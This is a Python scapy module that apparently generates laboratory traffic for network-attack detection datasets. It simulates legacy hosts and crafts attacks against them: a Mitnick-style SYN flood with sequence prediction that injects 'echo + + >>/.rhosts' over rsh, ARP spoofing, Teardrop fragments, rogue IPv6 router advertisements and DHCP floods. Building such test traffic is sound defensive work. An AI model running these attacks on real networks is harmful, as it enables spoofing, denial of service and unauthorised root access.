"""Crafted frames for the sample traffic (`datasets.recipe.traffic`): forged names; laboratory use
only.

``python -m datasets.recipe.spoof stand-in KIND ADDRESS`` plays a host that today's systems no
longer are: a ``zombie`` that counts its IP identifications up, a ``silent`` host that answers ARP
and nothing else, an ``xterm`` whose initial sequence numbers can be predicted and whose remote
shell trusts by address (as SunOS in 1994). The other subcommands are the attacks on them, and the
changes of ARP that are none. Each speaks through ``eth0`` of the namespace that it runs in.
"""

from __future__ import annotations

import argparse
import random
import sys
import time
from collections.abc import Callable, Sequence
from ipaddress import IPv4Address
from typing import Any

from scapy.arch import get_if_hwaddr
from scapy.config import conf
from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import IP, TCP, UDP
from scapy.layers.inet6 import (
    ICMPv6ND_RA,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    IPv6ExtHdrFragment,
)
from scapy.layers.l2 import ARP, Ether
from scapy.utils import mac2str

INTERFACE = "eth0"
BROADCAST = "ff:ff:ff:ff:ff:ff"
SHELL, LOGIN = 514, 513
ISN_STEP = 128_000
"""What SunOS 4 added to its initial sequence number for each connection (Shimomura 1995)."""
SILENCING, SAMPLES = 120, 20
COMMAND = b"0\0root\0root\0echo + + >>/.rhosts\0"


def mac_of(address: str) -> str:
    """The locally administered hardware address of a stand-in."""
    return "02:00:" + ":".join(f"{byte:02x}" for byte in IPv4Address(address).packed)


class StandIn:
    """One host, from ARP up."""

    def __init__(self, kind: str, address: str, trusted: str = "") -> None:
        """``trusted``: others speak in its name; answers go to its own hardware address."""
        self.kind, self.address, self.mac = kind, address, mac_of(address)
        self.trusted = trusted
        self.socket = conf.L2socket(iface=INTERFACE, promisc=True)
        self.identification = 1000
        self.isn = 2_021_824_000

    def run(self) -> None:
        """Answer until killed."""
        while True:
            frame = self.socket.recv()
            if frame is None or frame.src == self.mac:
                continue
            if ARP in frame and frame[ARP].op == 1 and frame[ARP].pdst == self.address:
                asker = frame[ARP]
                answer = ARP(op=2, hwsrc=self.mac, psrc=self.address, hwdst=asker.hwsrc)
                answer.pdst = asker.psrc
                self.socket.send(Ether(src=self.mac, dst=asker.hwsrc) / answer)
            elif TCP in frame and frame[IP].dst == self.address and self.kind != "silent":
                for reply in self._replies(frame[IP]):
                    peer = mac_of(reply.dst) if reply.dst == self.trusted else frame.src
                    self.socket.send(Ether(src=self.mac, dst=peer) / reply)

    def _replies(self, packet: Any) -> list[Any]:
        asked = packet[TCP]
        flags = str(asked.flags)
        self.identification += 1
        head = IP(src=self.address, dst=packet.src, id=self.identification)
        back = TCP(sport=asked.dport, dport=asked.sport)
        size = len(asked.payload)
        if "R" in flags:
            self.identification -= 1
            return []
        if self.kind == "zombie" or asked.dport != SHELL:
            if "A" in flags:
                back.flags, back.seq = "R", asked.ack
            else:
                back.flags, back.ack = "RA", asked.seq + 1
            return [head / back]
        if flags == "S":
            self.isn += ISN_STEP
            back.flags, back.seq, back.ack = "SA", self.isn, asked.seq + 1
            return [head / back]
        if size or "F" in flags:
            back.seq, back.ack = asked.ack, asked.seq + size + ("F" in flags)
            back.flags = "A" if "F" in flags else "PA"
            # rshd says one NUL byte when it lets somebody in.
            return [head / back / b"\0"] if size and "F" not in flags else [head / back]
        self.identification -= 1
        return []


def stand_in(arguments: argparse.Namespace) -> None:
    """Play the host."""
    host = StandIn(arguments.kind, arguments.address, arguments.trusted)
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    host.run()


def mitnick(arguments: argparse.Namespace) -> None:
    """Silence the trusted host, sample the target's sequence numbers, log in in its name."""
    me, trusted, target = arguments.source, arguments.trusted, arguments.target
    wire = conf.L2socket(iface=INTERFACE, promisc=False)
    own = get_if_hwaddr(INTERFACE)

    def send(packet: Any, address: str) -> None:
        wire.send(Ether(src=own, dst=mac_of(address)) / packet)

    for number in range(SILENCING):
        forged = IP(src=arguments.unused, dst=trusted)
        send(forged / TCP(sport=600 + number, dport=LOGIN, flags="S", seq=1382726960), trusted)
        time.sleep(0.01)
    numbers = []
    for number in range(SAMPLES):
        probe = TCP(sport=1000 - number, dport=SHELL, flags="S", seq=1382726990 + number)
        send(IP(src=me, dst=target) / probe, target)
        until = time.monotonic() + 0.5
        while time.monotonic() < until:
            frame = wire.recv()
            if frame is not None and TCP in frame and frame[TCP].dport == 1000 - number:
                if frame[IP].src == target and str(frame[TCP].flags) == "SA":
                    numbers.append(frame[TCP].seq)
                    break
        time.sleep(max(until - time.monotonic(), 0))
    step = numbers[-1] - numbers[-2]
    predicted = numbers[-1] + step + 1
    name = IP(src=trusted, dst=target)

    def segment(flags: str, seq: int, ack: int = 0) -> Any:
        return name / TCP(sport=LOGIN, dport=SHELL, flags=flags, seq=seq, ack=ack)

    send(segment("S", 1382727010), target)
    time.sleep(0.25)
    send(segment("A", 1382727011, predicted), target)
    time.sleep(0.1)
    send(segment("PA", 1382727011, predicted) / COMMAND, target)
    time.sleep(0.5)
    send(segment("FA", 1382727011 + len(COMMAND), predicted + 1), target)
    time.sleep(0.2)


def arp_spoof(arguments: argparse.Namespace) -> None:
    """As dsniff's ``arpspoof -r``: ask for both ends, claim each to the other, put them right."""
    wire = conf.L2socket(iface=INTERFACE, promisc=False)
    own = get_if_hwaddr(INTERFACE)
    hosts = (arguments.target, arguments.victim)
    if arguments.stand_ins:
        macs = {address: mac_of(address) for address in hosts}
    else:
        macs = {address: _find(wire, own, arguments.source, address) for address in hosts}
    for _ in range(arguments.rounds):
        for claimed, receiver in (hosts, hosts[::-1]):
            claim = ARP(op=2, hwsrc=own, psrc=claimed, pdst=receiver, hwdst=macs[receiver])
            wire.send(Ether(src=own, dst=macs[receiver]) / claim)
        time.sleep(0.5)
    for _ in range(0 if arguments.stand_ins else 3):
        for claimed, receiver in (hosts, hosts[::-1]):
            truth = ARP(
                op=2, hwsrc=macs[claimed], psrc=claimed, pdst=receiver, hwdst=macs[receiver]
            )
            wire.send(Ether(src=own, dst=macs[receiver]) / truth)
        time.sleep(0.3)


def _find(wire: Any, own: str, source: str, address: str) -> str:
    """The hardware address of a host, asked for."""
    wire.send(
        Ether(src=own, dst=BROADCAST) / ARP(op=1, hwsrc=own, psrc=source, hwdst=None, pdst=address)
    )
    until = time.monotonic() + 3
    while time.monotonic() < until:
        frame = wire.recv()
        if frame is not None and ARP in frame and frame[ARP].op == 2:
            if frame[ARP].psrc == address:
                return str(frame[ARP].hwsrc)
    raise SystemExit(f"{address} did not answer")


def _gratuitous(wire: Any, address: str, mac: str) -> None:
    wire.send(
        Ether(src=mac, dst=BROADCAST)
        / ARP(op=1, hwsrc=mac, psrc=address, hwdst="00:00:00:00:00:00", pdst=address)
    )


def arp_changes(arguments: argparse.Namespace) -> None:
    """What is no attack: a lease that went to another host, a router that took over (VRRP)."""
    wire = conf.L2socket(iface=INTERFACE, promisc=False)
    dice = random.Random(1)  # noqa: S311
    for number, address in enumerate(("192.0.2.101", "192.0.2.102", "192.0.2.103")):
        _gratuitous(wire, address, f"02:00:00:00:01:{number:02x}")
        time.sleep(dice.uniform(0.2, 0.5))
        # The lease ended; the next host announces the address twice (RFC 5227, section 2.3).
        for _ in range(2):
            _gratuitous(wire, address, f"02:00:00:00:02:{number:02x}")
            time.sleep(0.3)
    # A virtual router's hardware address stays (RFC 5798, section 7.3), whoever answers for it.
    for _ in range(3):
        _gratuitous(wire, "192.0.2.1", "00:00:5e:00:01:07")
        time.sleep(0.3)


def dhcp(arguments: argparse.Namespace) -> None:
    """So many clients ask for a lease; with ``--server`` it is offered, taken and confirmed."""
    wire = conf.L2socket(iface=INTERFACE, promisc=False)
    dice = random.Random(arguments.clients)  # noqa: S311
    for number in range(arguments.clients):
        mac = "02:" + ":".join(f"{dice.randrange(256):02x}" for _ in range(5))
        server, leased = arguments.server, f"192.0.2.{101 + number % 100}"

        def say(
            kind: str, *options: Any, mac: str = mac, number: int = number, answer: bool = False
        ) -> None:
            boot = BOOTP(op=2 if answer else 1, chaddr=mac2str(mac), xid=number, flags=0x8000)
            ends = IP(src=server if answer else "0.0.0.0", dst="255.255.255.255")  # noqa: B023, S104
            ports = UDP(sport=67, dport=68) if answer else UDP(sport=68, dport=67)
            if answer:
                boot.yiaddr = leased  # noqa: B023
            source = get_if_hwaddr(INTERFACE) if answer else mac
            told = DHCP(options=[("message-type", kind), *options, "end"])
            wire.send(Ether(src=source, dst=BROADCAST) / ends / ports / boot / told)

        say("discover")
        if server:
            say("offer", ("server_id", server), answer=True)
            say("request", ("requested_addr", leased), ("server_id", server))
            say("ack", ("server_id", server), answer=True)
        time.sleep(arguments.pause)


def teardrop(arguments: argparse.Namespace) -> None:
    """Datagrams of two fragments, the second within the first."""
    wire = conf.L2socket(iface=INTERFACE, promisc=False)
    own = get_if_hwaddr(INTERFACE)
    mac = _find(wire, own, arguments.source, arguments.target)
    for number in range(1, 1 + arguments.rounds):
        head = IP(src=arguments.source, dst=arguments.target, id=number, proto=17)
        first, second = head.copy(), head.copy()
        first.flags, second.frag = "MF", 3
        whole = bytes(UDP(sport=4000, dport=53, len=36)) + bytes(28)
        for part in (first / whole, second / bytes(4)):
            wire.send(Ether(src=own, dst=mac) / part)
        time.sleep(0.05)


def teardrop6(arguments: argparse.Namespace) -> None:
    """The same of IPv6, to whoever takes the frame."""
    wire = conf.L2socket(iface=INTERFACE, promisc=False)
    own = get_if_hwaddr(INTERFACE)
    whole = bytes(UDP(sport=4000, dport=53, len=36)) + bytes(28)
    for number in range(1, 1 + arguments.rounds):
        head = IPv6(src=arguments.source, dst=arguments.target)
        first, second = (IPv6ExtHdrFragment(nh=17, id=number) for _ in range(2))
        first.m, second.offset = 1, 3
        for part in (head / first / (whole + bytes(4)), head / second / bytes(8)):
            wire.send(Ether(src=own, dst=BROADCAST) / part)
        time.sleep(0.05)


def router(arguments: argparse.Namespace) -> None:
    """A router's advertisements; ``--hardware``: another's hardware address in them."""
    wire = conf.L2socket(iface=INTERFACE, promisc=False)
    mac = arguments.hardware or mac_of("192.0.2.1")
    time.sleep(arguments.wait)
    for _ in range(arguments.rounds):
        said = ICMPv6ND_RA(prf=arguments.preference, routerlifetime=arguments.lifetime)
        packet = IPv6(src=arguments.address, dst="ff02::1", hlim=255) / said
        packet /= ICMPv6NDOptSrcLLAddr(lladdr=mac)
        wire.send(Ether(src=mac, dst="33:33:00:00:00:01") / packet)
        time.sleep(arguments.pause)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m datasets.recipe.spoof")
    commands = parser.add_subparsers(required=True)

    def command(name: str, act: Callable[[argparse.Namespace], None], *names: str) -> Any:
        sub = commands.add_parser(name)
        for argument in names:
            sub.add_argument(argument)
        sub.set_defaults(run=act)
        return sub

    host = command("stand-in", stand_in)
    host.add_argument("kind", choices=("zombie", "silent", "xterm"))
    host.add_argument("address")
    host.add_argument("--trusted", default="")
    command("mitnick", mitnick, "source", "unused", "trusted", "target")
    spoof = command("arp-spoof", arp_spoof, "source", "target", "victim")
    spoof.add_argument("--rounds", type=int, default=12)
    # The hosts are not asked where they are, and not put right: nobody hears them.
    spoof.add_argument("--stand-ins", action="store_true")
    command("arp-changes", arp_changes)
    leases = command("dhcp", dhcp)
    leases.add_argument("clients", type=int)
    leases.add_argument("--server", default="")
    leases.add_argument("--pause", type=float, default=0.01)
    for drop in (
        command("teardrop", teardrop, "source", "target"),
        command("teardrop6", teardrop6, "source", "target"),
    ):
        drop.add_argument("--rounds", type=int, default=20)
    advertise = command("router", router, "address")
    advertise.add_argument("--hardware", default="")
    advertise.add_argument("--preference", type=int, default=0)
    advertise.add_argument("--lifetime", type=int, default=1800)
    advertise.add_argument("--rounds", type=int, default=3)
    advertise.add_argument("--pause", type=float, default=0.2)
    advertise.add_argument("--wait", type=float, default=0)
    arguments = parser.parse_args(argv)
    arguments.run(arguments)
    return 0


if __name__ == "__main__":
    sys.exit(main())
